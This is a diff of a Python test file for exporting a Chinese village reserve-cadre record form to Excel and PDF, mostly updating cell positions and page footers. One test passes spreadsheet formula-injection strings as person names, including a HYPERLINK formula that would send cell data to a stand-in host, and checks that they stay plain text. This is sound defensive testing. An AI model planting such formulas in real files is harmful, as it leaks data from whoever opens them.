@@ -214,7 +214,7 @@ def test_collect_gathers_the_year_of_one_record(rich):
     q1 = s.mentoring[0]
     assert (q1.date, q1.mentor, q1.content, q1.assessment) == (
         "2026年2月10日",
-        "副镇长 副镇长",
+        "副镇长",  # the cast's mentor is named 副镇长: the post is not printed twice
         "谈心谈话，讲解村务",
         "进步明显",
     )
@@ -287,9 +287,9 @@ def test_collect_runs_the_same_six_queries_for_one_and_for_five_records(cast, pe
 def test_workbook_is_laid_out_like_the_printed_form(rich):
     sheet = one(rich)
     ws = workbook(sheet)
-    assert ws["A1"].value == "村级后备干部日常管理纪实表"
+    assert (ws["A1"].value, ws["A2"].value) == ("附件2", "村级后备干部日常管理纪实表")
     merged = {str(r) for r in ws.merged_cells.ranges}
-    assert {"A1:I1", "B3:C3", "H3:I7", "B8:E8", "G8:I8", "E6:G6"} <= merged
+    assert {"A1:I1", "A2:I2", "B4:C4", "H4:I8", "B9:E9", "G9:I9", "E7:G7"} <= merged
     got = values(ws)
     for label in [
         "姓名", "性别", "出生年月", "民族", "籍贯", "出生地", "入党时间", "参加工作时间", "健康状况", "从事职业",
@@ -299,13 +299,13 @@ def test_workbook_is_laid_out_like_the_printed_form(rich):
         "参加实践锻炼情况", "具体内容", "主要表现", "村（社区）评定意见", "乡镇评定意见", "年度考核结果",
     ]:  # fmt: skip
         assert label in got, label
-    assert ws["B3"].value == "李兰" and ws["E3"].value == "男" and ws["G3"].value == "1990.01"
-    assert ws["E6"].value == "电子商务、乡村旅游策划"
+    assert ws["B4"].value == "李兰" and ws["E4"].value == "男" and ws["G4"].value == "1990.01"
+    assert ws["E7"].value == "电子商务、乡村旅游策划"
     # masked unless revealed
-    assert ws["B8"].value == rich.person.id_number[:6] + "********" + rich.person.id_number[-4:]
-    assert ws["G8"].value == "138****8000"
+    assert ws["B9"].value == rich.person.id_number[:6] + "********" + rich.person.id_number[-4:]
+    assert ws["G9"].value == "138****8000"
     full = workbook(sheet, reveal=True)
-    assert full["B8"].value == rich.person.id_number and full["G8"].value == "13800138000"
+    assert full["B9"].value == rich.person.id_number and full["G9"].value == "13800138000"
     # the training block: a header and the rows under it, the title written down the left over all of them
     head = row_of(ws, "培训方式")
     assert [ws.cell(head + 1, c).value for c in (2, 4, 6, 7)] == [
@@ -315,12 +315,12 @@ def test_workbook_is_laid_out_like_the_printed_form(rich):
         "乡村振兴政策理论",
     ]
     assert [ws.cell(head + 2, c).value for c in (2, 4, 6, 7)] == ["以会代训", "2026.06.10", "0.5", "两委会列席"]
-    assert f"A{head}:A{head + 4}" in merged  # padded to the printed four rows
+    assert f"A{head}:A{head + 5}" in merged  # padded to the printed five rows
     assert ws.cell(head, 1).value == "参加培训情况" and ws.cell(head, 1).alignment.textRotation == 255
     q1 = row_of(ws, "第一季度")
     assert [ws.cell(q1, c).value for c in (3, 4, 5, 8)] == [
         "2026年2月10日",
-        "副镇长 副镇长",
+        "副镇长",  # the cast's mentor is named 副镇长: the post is not printed twice
         "谈心谈话，讲解村务",
         "进步明显",
     ]
@@ -335,19 +335,20 @@ def test_workbook_is_laid_out_like_the_printed_form(rich):
     # the photo sits in the box on the right, print set to A4 portrait fitted to the width
     assert len(ws._images) == 1
     anchor = ws._images[0].anchor._from
-    assert (anchor.col, anchor.row) == (7, 2)  # H3
+    assert (anchor.col, anchor.row) == (7, 3)  # H4
     assert ws.page_setup.orientation == "portrait" and int(ws.page_setup.paperSize) == 9  # A4
     assert (
         ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
     )
-    assert ws["B3"].border.left.style == "thin" and ws["I7"].border.right.style == "thin"
+    assert ws["B4"].border.left.style == "thin" and ws["I8"].border.right.style == "thin"
+    assert ws.oddFooter.center.text == "第 &P 页 共 &N 页"
 
 
 def test_rows_grow_with_their_text(rich):
     rich.person.specialty = "熟悉农村电商运营与直播带货，" * 8
     rich.person.save()
     ws = workbook(one(rich))
-    assert ws.row_dimensions[6].height > ws.row_dimensions[5].height
+    assert ws.row_dimensions[7].height > ws.row_dimensions[6].height
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-1"])
@@ -356,7 +357,7 @@ def test_a_name_that_looks_like_a_formula_is_text(cast, people, media, name):
     person.name = name
     person.save()
     ws = workbook(one(people["a1"]))
-    assert ws["B3"].value == name and ws["B3"].data_type == "s"
+    assert ws["B4"].value == name and ws["B4"].data_type == "s"
     assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
 
 
@@ -368,14 +369,14 @@ def test_control_characters_are_removed(cast, people, media):
     sheet = one(people["a1"])
     assert sheet.name == "李兰"
     ws = workbook(sheet)
-    assert ws["B3"].value == "李兰" and ws["E6"].value == "种植养殖"
+    assert ws["B4"].value == "李兰" and ws["E7"].value == "种植养殖"
 
 
 def test_a_missing_photo_file_leaves_the_photo_box(rich, media):
     sheet = one(rich)
     (media / sheet.photo).unlink()
     ws = workbook(sheet)
-    assert ws._images == [] and ws["H3"].value == "照片"
+    assert ws._images == [] and ws["H4"].value == "照片"
     assert rs.photo_url(sheet) == ""
 
 
@@ -383,7 +384,7 @@ def test_a_broken_photo_file_leaves_the_photo_box(rich, media):
     sheet = one(rich)
     (media / sheet.photo).write_bytes(b"not an image")
     ws = workbook(sheet)
-    assert ws._images == [] and ws["H3"].value == "照片"
+    assert ws._images == [] and ws["H4"].value == "照片"
 
 
 def test_a_person_with_nothing_recorded_gets_the_empty_form(cast, people, media):
@@ -391,10 +392,10 @@ def test_a_person_with_nothing_recorded_gets_the_empty_form(cast, people, media)
     assert sheet.trainings == [] and sheet.practice == [] and sheet.appraisal == "" and sheet.photo == ""
     assert all(m.content == "" for m in sheet.mentoring)
     ws = workbook(sheet)
-    assert ws["H3"].value == "照片" and ws._images == []
+    assert ws["H4"].value == "照片" and ws._images == []
     head = row_of(ws, "培训方式")
-    assert [ws.cell(head + i, 2).value for i in range(1, 5)] == [None] * 4  # four empty printed rows
-    assert ws.cell(head + 5, 1).value == "结对帮扶情况"
+    assert [ws.cell(head + i, 2).value for i in range(1, 6)] == [None] * 5  # the form's five empty rows
+    assert ws.cell(head + 6, 1).value == "结对帮扶情况"
     assert rs.sheets_pdf([sheet], reveal=False).startswith(b"%PDF-")
 
 
@@ -521,8 +522,10 @@ def test_many_sheets_in_one_pdf_each_start_a_page_and_number_their_own_pages(cas
     assert len(pages) == 2 * len(sheets)
     for i, sheet in enumerate(sheets):
         first, second = pages[2 * i], pages[2 * i + 1]
-        assert first.startswith("村级后备干部日常管理纪实表") and sheet.name in first and first.endswith("第1页")
-        assert f"{sheet.village}{sheet.name}·2026年度" in second and second.endswith("第2页")
+        assert first.startswith("附件2村级后备干部日常管理纪实表") and sheet.name in first
+        # each sheet numbers its own pages, 第 1 页 共 2 页 and 第 2 页 共 2 页, beside whose sheet it is
+        assert f"{sheet.village}{sheet.name}·2026年度第1页共2页" in first
+        assert f"{sheet.village}{sheet.name}·2026年度第2页共2页" in second
     path = tmp_path / "images.pdf"
     path.write_bytes(pdf)
     images = subprocess.run(["pdfimages", "-list", str(path)], capture_output=True, check=True, text=True).stdout
@@ -548,7 +551,7 @@ def test_zip_holds_one_workbook_per_person_with_unique_names(cast, people, media
         )
         for name in names:
             ws = load_workbook(io.BytesIO(archive.read(name))).active
-            assert ws["A1"].value == "村级后备干部日常管理纪实表" and ws["B3"].data_type == "s"
+            assert ws["A2"].value == "村级后备干部日常管理纪实表" and ws["B4"].data_type == "s"
 
 
 def test_safe_filename():
